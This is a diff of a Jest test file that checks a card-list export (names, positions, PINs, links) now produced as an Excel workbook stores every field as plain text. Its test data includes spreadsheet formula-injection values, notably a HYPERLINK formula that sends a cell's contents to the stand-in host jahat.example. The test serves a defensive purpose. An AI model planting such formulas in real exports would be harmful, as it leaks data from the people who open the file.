@@ -1,11 +1,12 @@
+import { Buffer } from 'node:buffer';
 import { expect, it } from '@jest/globals';
-import { parseUtf8 } from '../../src/core/bytes.ts';
+import readWorkbook from 'read-excel-file/node';
+import yauzl from 'yauzl';
 import { type Card, cardsList } from '../../src/operations/cards.ts';
-
-const cardsCsv = (cards: readonly Card[]) => parseUtf8(cardsList('acara', cards).bytes as Uint8Array);
 
 const card: Card = {
   signerId: 'a',
+  number: 7,
   name: 'Andi "Uda", S.STP.',
   position: 'Camat',
   institution: 'Kecamatan; Kupitan',
@@ -13,13 +14,25 @@ const card: Card = {
   link: 'https://ikrar.test/s/abc',
 };
 
-it('keeps a name that a spreadsheet would run a text', () => {
-  const cells = ['=HYPERLINK("http://jahat.example?"&F2)', '+1', '-1', '@SUM(1)'];
-  for (const name of cells) {
-    const [, line] = cardsCsv([{ ...card, name }]).split('\r\n');
-    expect(line).toMatch(/^"'[=+@-]/);
+const bytesOf = async (cards: readonly Card[]) => Buffer.from((await cardsList('acara', cards)).bytes as Uint8Array);
+
+async function sheetXml(bytes: Buffer): Promise<string> {
+  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
+  for await (const entry of zip.eachEntry()) {
+    if (!/worksheets\/sheet1\.xml$/.test(entry.fileName)) continue;
+    const chunks: Buffer[] = [];
+    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
+    return Buffer.concat(chunks).toString('utf8');
   }
-  expect(cardsCsv([card]).split('\r\n')[1]).toBe(
-    '"Andi ""Uda"", S.STP.";"Camat";"Kecamatan; Kupitan";"";"012345";"https://ikrar.test/s/abc"',
-  );
+  throw new Error('no sheet');
+}
+
+it('holds PIN, number and names as text, so that no zero is lost and no name runs as a formula', async () => {
+  const names = ['=HYPERLINK("http://jahat.example"&F2)', '+1', '-1', '@SUM(1)', 'Andi "Uda", S.STP.'];
+  const bytes = await bytesOf(names.map((name) => ({ ...card, name })));
+  const [{ data } = { data: [] }] = await readWorkbook(bytes);
+  expect(data[0]).toEqual(['No.', 'Nama', 'Jabatan', 'Instansi', 'Kelompok', 'PIN', 'Tautan']);
+  expect(data.slice(1).map((row) => row[1])).toEqual(expect.arrayContaining(names));
+  for (const row of data.slice(1)) expect([row[0], row[5], row[6]]).toEqual(['7', '012345', card.link]);
+  expect(await sheetXml(bytes)).not.toMatch(/<f[ >]|t="n"|<v>0?12345<\/v>/);
 });
